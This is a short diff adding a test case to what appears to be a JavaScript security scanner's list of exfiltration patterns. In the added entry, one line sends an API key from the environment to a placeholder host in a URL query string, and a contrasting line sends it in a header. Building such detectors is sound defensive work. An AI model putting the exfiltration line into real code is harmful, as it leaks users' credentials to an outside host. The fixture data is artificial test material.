@@ -87,6 +87,13 @@ export const dangersOfTrees: readonly Kind[] = [
     'async function f(page, fn) { await page.evaluate(fn) }',
   ],
   [
+    'a secret in an address',
+    'javascript',
+    'javascript/exfiltration',
+    'fetch("https://x.example/?k=" + process.env.API_KEY)',
+    'fetch("https://x.example/?v=" + process.env.VERSION, { headers: { key: process.env.API_KEY } })',
+  ],
+  [
     'all of the environment',
     'javascript',
     'javascript/exfiltration',
